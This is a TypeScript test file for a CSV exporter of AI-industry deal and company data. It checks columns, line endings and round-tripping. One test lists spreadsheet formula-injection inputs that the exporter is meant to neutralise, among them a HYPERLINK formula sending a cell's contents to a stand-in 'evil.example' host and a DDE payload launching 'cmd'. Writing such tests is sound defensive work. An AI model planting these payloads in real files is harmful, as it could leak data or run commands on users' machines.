/// <reference path="./papaparse.d.ts" />
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import papa from 'papaparse';
import { expect, test } from 'vitest';
import { type Portfolio, tableNames } from '../model/portfolio';
import type { Source } from '../model/source';
import { linkOf } from '../testing/portfolios';
import { csvColumns, csvOf, plainText } from './csv';

const starter: Portfolio = JSON.parse(
  readFileSync(new URL('../../assets/starter-portfolio.json', import.meta.url), 'utf8'),
);
const source: Source = { id: 's', title: 't', publisher: '', date: null, url: null, tier: 1 };

/** Rows as papaparse reads them, by column; the delimiter is said, as for a file of one line it can't be found. */
function read(text: string): Record<string, string>[] {
  const { data, errors } = papa.parse(text, { delimiter: ',', skipEmptyLines: true });
  expect(errors).toEqual([]);
  const [columns = [], ...lines] = data;
  return lines.map((line) =>
    Object.fromEntries(columns.map((column, at) => [column, line[at] ?? ''])),
  );
}

test('a link is one line, its amount, its range and its states in columns of their own', () => {
  const link = linkOf('l1', 'purchase', 'openai', 'cerebras', 10e9, {
    amount: { low: 10e9, best: 10e9, high: 12.5e9 },
    capacityMw: 750,
    status: [
      { since: null, state: 'intent' },
      { since: '2026-01-14', state: 'signed' },
    ],
    sourceIds: ['reuters', 'filing'],
  });
  expect(read(csvOf('links', [link]))).toMatchObject([
    {
      id: 'l1',
      'amount.low': '10000000000',
      'amount.high': '12500000000',
      capacityMw: '750',
      'status.since': '; 2026-01-14',
      'status.state': 'intent; signed',
      counted: 'true',
      supersededBy: '',
      'original.currency': '',
      sourceIds: 'reuters; filing',
    },
  ]);
});

test('what an amount was entered as stands in columns of its own', () => {
  const original = {
    currency: 'EUR',
    low: 2e9,
    best: 2.1e9,
    high: 2.2e9,
    usdPerUnit: 1.09,
    day: '2026-01-14',
  };
  const [row] = read(csvOf('links', [linkOf('l1', 'purchase', 'a', 'b', 2.3e9, { original })]));
  expect(row).toMatchObject({
    'original.currency': 'EUR',
    'original.low': '2000000000',
    'original.best': '2100000000',
    'original.high': '2200000000',
    'original.usdPerUnit': '1.09',
    'original.day': '2026-01-14',
  });
});

test('an undisclosed amount is an empty cell, not a zero', () => {
  const [row] = read(csvOf('links', [linkOf('l1', 'purchase', 'a', 'b', null)]));
  expect([row?.['amount.best'], row?.capacityMw]).toEqual(['', '']);
});

test('every year of a company’s revenue is kept, with its day and sources', () => {
  const revenue = [
    { usd: 3.7e9, asOf: '2024-12-31', sourceIds: ['a'] },
    { usd: 13.1e9, asOf: null, period: 'run rate', sourceIds: ['b', 'c'] },
  ];
  const company = { id: 'openai', name: 'OpenAI', kind: 'ai-lab' as const, watched: true, revenue };
  expect(read(csvOf('companies', [company]))).toMatchObject([
    {
      watched: 'true',
      'revenue.usd': '3700000000; 13100000000',
      'revenue.asOf': '2024-12-31; ',
      'revenue.period': '; run rate',
      'revenue.sourceIds': 'a; b, c',
      'valuation.usd': '',
    },
  ]);
});

test('lines end as RFC 4180 says, and every one has as many cells as the first', () => {
  for (const table of tableNames) {
    const text = csvOf(table, starter[table]);
    expect(text.startsWith(`\uFEFF${csvColumns(table)[0]},`)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const { data } = papa.parse(text, { delimiter: ',', skipEmptyLines: true });
    expect(data).toHaveLength(starter[table].length + 1);
    expect(new Set(data.map((line) => line.length))).toEqual(new Set([csvColumns(table).length]));
  }
});

test('an empty table is its line of headings', () => {
  expect(csvOf('sources', [])).toBe('\uFEFFid,title,publisher,date,url,tier,recorded\r\n');
});

test.each([
  '=HYPERLINK("http://evil.example?"&A1;"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "'=1+1",
  '=1\n+2',
])('no spreadsheet runs %j', (title) => {
  const text = csvOf('sources', [{ ...source, title }]);
  const [row] = read(text);
  expect(row?.title).toMatch(/^'/);
  expect(plainText(row?.title ?? '')).toBe(title);
});

test('a list that begins like a formula is protected too', () => {
  const link = linkOf('l1', 'purchase', 'a', 'b', 1, { sourceIds: ['=1', 'b'] });
  expect(read(csvOf('links', [link]))[0]?.sourceIds).toBe("'=1; b");
});

test('numbers stay numbers, and a text that merely holds a sign stays as it is', () => {
  const [row] = read(
    csvOf('sources', [{ ...source, title: "'tis 10-12 = fine", publisher: "O'R" }]),
  );
  expect([row?.tier, row?.title, row?.publisher]).toEqual(['1', "'tis 10-12 = fine", "O'R"]);
});

test('whatever is written in a text comes back from a reader of CSV', () => {
  const word = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc
      .array(fc.constantFrom('"', ',', ';', '\r', '\n', "'", '=', '-', ' ', 'a', '\uFEFF'))
      .map((parts) => parts.join('')),
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(word, word), { minLength: 1 }), (words) => {
      const sources = words.map(([title, publisher]) => ({ ...source, title, publisher }));
      const rows = read(csvOf('sources', sources));
      expect(
        rows.map((row) => [row.title, row.publisher].map((cell) => plainText(cell ?? ''))),
      ).toEqual(words);
    }),
    { numRuns: 500 },
  );
});
